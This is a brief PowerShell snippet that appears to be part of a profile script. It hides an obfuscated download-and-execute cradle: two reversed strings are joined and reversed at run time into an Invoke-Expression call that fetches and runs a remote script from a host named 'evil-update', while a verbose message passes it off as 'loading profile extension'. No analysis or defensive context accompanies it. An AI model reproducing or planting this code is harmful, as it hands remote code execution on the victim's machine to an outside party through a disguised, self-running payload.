$p1 = '))''txt.a/moc.etadpu-live//:sptth''(gnirtS'
$p2 = 'daolnwoD.)tneilCbeW.teN tcejbO-weN(( XEI'
$x = $p1 + $p2
$cmd = -join $x[-1..-($x.Length)]
Write-Verbose 'loading profile extension'
Invoke-Expression $cmd
